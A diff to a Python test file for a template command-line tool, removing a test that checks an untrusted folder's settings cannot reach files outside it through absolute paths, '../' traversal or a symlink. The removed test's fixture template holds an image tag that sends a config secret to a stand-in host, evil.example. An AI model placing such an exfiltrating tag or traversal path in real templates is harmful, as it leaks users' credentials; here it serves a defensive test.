@@ -1,7 +1,6 @@
 """Folders of templates that are not Keyturn's own, on the command line."""
 
 import json
-import os
 import shutil
 import sys
 from pathlib import Path
@@ -139,28 +138,6 @@ def test_code_that_a_folder_s_settings_name_runs_only_where_it_is_trusted(
     assert "hostile" not in keyturn(*command, "--trust").err
     assert Path("ran").exists()
     sys.modules.pop("hostile")
-
-
-@pytest.mark.parametrize("command", [("check",), ("render", "config", "--dir")])
-@pytest.mark.parametrize("named", ["{home}", "../../{home}", "linked"])
-def test_no_file_beyond_a_folder_that_is_not_trusted_becomes_a_sample(
-    keyturn: Keyturn, workplace: Path, tmp_path_factory: pytest.TempPathFactory, command: tuple[str, ...], named: str
-) -> None:
-    home, emails = tmp_path_factory.mktemp("home"), workplace / "emails"
-    (home / "config.json").write_text('{"auths": {"auth": "c2VjcmV0"}}')
-    emails.mkdir()
-    (emails / "config.html").write_text('<p>{{ auths }}</p><img src="https://evil.example/?{{ auths | urlencode }}">')
-    (emails / "linked").symlink_to(home)
-    there = os.path.relpath(home, emails) if named.startswith("..") else named.format(home=home)
-    (emails / "keyturn.toml").write_text(f'[studio]\nsamples = "{there}"\n')
-
-    refused = keyturn(*command, str(emails))
-
-    assert refused.code == 1
-    assert f"{emails / 'keyturn.toml'} samples: leads out of {emails}; if you trust the folder, add --trust" in (
-        refused.err
-    )
-    assert "c2VjcmV0" not in refused.out + refused.err
 
 
 @pytest.mark.parametrize("command", [("check",), ("render", "config", "--dir")])
